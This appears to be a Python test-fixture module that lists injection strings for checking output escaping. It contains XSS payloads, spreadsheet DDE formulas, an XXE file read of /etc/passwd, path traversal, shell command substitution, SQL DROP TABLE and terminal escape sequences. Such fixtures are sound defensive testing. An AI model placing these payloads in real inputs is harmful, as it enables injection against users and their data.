"""Texts that somebody might write to do harm in a page, a spreadsheet, a terminal, a file or a drawing.

``WORDS`` are one trick each; ``MIXED`` are the same tricks, several in a text, so that few texts try them all.
"""

from __future__ import annotations

IN_PAGES = (
    "</script><img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "JaVaScRiPt&#58;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<b onclick=alert(1)>&amp;{{ 7*7 }}</b>",
    "<a href='https://example.invalid/steal'>look</a>",
    "<link rel=stylesheet href=https://example.invalid/x.css><style>@import 'https://example.invalid/y.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://example.invalid/'>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} {# note",
    "`alert(1)` `${alert(1)}` \\u003cscript\\u003e",
    "*/ alert(1) /* // <!-- --!> -->",
    "]]><x/><![CDATA[",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "__proto__",
    "constructor",
)
IN_SHEETS = (
    "=cmd|' /C calc'!A0",
    "=1+1",
    '=HYPERLINK("https://example.invalid/?"&A1,"look")',
    "+1+1",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    '","=1+1","',
    ';=1+1;"',
    "'=1+1",
    "_x003D_1+1 _x000D_",
    "{=1+1}",
)
IN_TERMINALS = (
    "\x1b]0;x\x07title",
    "\x1b[2Jcleared",
    "\x1b]8;;https://example.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x9b2J\x9d0;x\x9c\x90q\x9c",
    "bell\x07 back\x08\x08\x08\x08 over\rwritten \x0b\x0c\x7f",
    "[red]markup[/red] [link=https://example.invalid]x[/link] [/]",
    "\u202egnirts\u202c \u2066x\u2069 \u200fy",
    "zero\u200bwidth\u200d\u2060\ufeff",
    "a\u2028b\u2029c\x85d",
)
IN_FILES = (
    "../../x",
    "..\\..\\x",
    "/etc/passwd",
    "C:\\Windows\\x",
    "CON",
    "aux.txt",
    "trailing dots...",
    "a/b\\c:d*e?f|g",
    "%2e%2e%2f%00",
    "~",
    "-rf",
    "$(touch /tmp/x) `touch /tmp/x` ; touch /tmp/x",
)
IN_OTHERS = (
    "$\\frac{",
    "$x^2$ \\input{/etc/passwd} \\write18{x} 50% & # _ ^ ~",
    "[look](javascript:alert(1)) ![x](https://example.invalid/x.png) **bold**",
    "{{trace D07 summary}}",
    "}) RETURN 1 //",
    "'; DROP TABLE nodes; --",
    "\"'\u201c\u201d\u2018\u2019\u00ab\u00bb\u2039\u203a`\u00b4\u2033",
    "BEGIN:VEVENT\r\nSUMMARY:x\r\nEND:VEVENT",
    '*vertices 1\n1 "x"\n*arcs',
    "&#0; &#x1b; &a; &lt;script&gt;",
    "%s %n {0} {x!r} %(x)s",
    '{ MERGEFIELD x } { HYPERLINK "https://example.invalid" }',
    "https://example.invalid/track.png",
    "\\\\server.invalid\\share",
    "NaN",
    "null",
    "👩‍🚒🏳️‍🌈🧪 émoji",
    "Unbrokenwordwithoutanyspace" * 20,
    "x" * 10_000,
)
WORDS = (*IN_PAGES, *IN_SHEETS, *IN_TERMINALS, *IN_FILES, *IN_OTHERS)

MIXED = (
    "=cmd|' /C calc'!A0 </script><img src=x onerror=alert(1)> \x1b]0;x\x07\x1b[2J ]]> {{7*7}} $\\frac{",
    "+1+1 \x9b2J\x9d0;x\x9c <svg onload=alert(1)> \u202egnirts\u202c ' onmouseover='alert(1)' ${7*7}",
    '@SUM(1) [look](javascript:alert(1)) a\u2028b\u2029c\x85d <!-- " autofocus onfocus="alert(1) \\\\x [/red]',
    "../../x <meta http-equiv=refresh content='0;url=https://example.invalid/'> \x07\x08\x7f \ufeff \u200b &b; &#0;",
    "javascript:alert(1)",
    '\t=1+1\n=1+1\r=1+1 "\'`\u201c\u2019 CON _x003D_1+1 { HYPERLINK "https://example.invalid" }',
)
"""Few texts with all of it, for a quick look at every output."""
